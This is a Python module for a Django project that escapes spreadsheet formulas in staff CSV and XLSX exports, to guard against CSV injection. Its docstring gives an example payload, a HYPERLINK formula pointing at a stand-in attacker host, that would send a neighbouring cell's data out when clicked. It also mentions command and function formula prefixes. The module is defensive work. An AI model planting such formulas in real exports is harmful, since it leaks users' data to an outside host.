"""Spreadsheet formats of staff exports and imports (django-import-export): exports are
data, never code.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or line
break before one) as a formula: a subject named ``=HYPERLINK("http://evil.example/?d="&B2,
"Open")`` would send the next cell to that site when staff click it. Every text cell that
could be read as a formula is written with a leading apostrophe (OWASP's "CSV injection"
advice): spreadsheets show the text as typed. A plain number (``-12``, ``+15551234567``)
is left alone: it is not a formula.

Imported by settings (IMPORT_EXPORT_FORMATS): nothing here may need Django's apps loaded.
"""

import re

from import_export.formats.base_formats import CSV, XLSX

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def escape_formula(value):
    """``value`` as a spreadsheet will show it and never run it (text only)."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


class _EscapedFormat:
    """Escapes on every export, whatever ``IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT`` says.
    django-import-export's own escaping (that setting) only drops a leading ``=``
    (``+cmd|...`` and ``@SUM(...)`` still run) and turns every cell into text; ours
    replaces it and is idempotent, so running twice changes nothing."""

    def export_data(self, dataset, **kwargs):
        self._escape_formulae(dataset)
        return super().export_data(dataset, **kwargs)

    def _escape_formulae(self, dataset):
        for _row in range(len(dataset)):
            row = dataset.lpop()
            dataset.append([escape_formula(cell) for cell in row])


class EscapedCSV(_EscapedFormat, CSV):
    pass


class EscapedXLSX(_EscapedFormat, XLSX):
    pass


# Every staff export offers these and only these (settings.IMPORT_EXPORT_FORMATS).
EXPORT_FORMATS = [EscapedCSV, EscapedXLSX]
# Staff imports read CSV (what the import screens document).
IMPORT_FORMATS = [EscapedCSV]
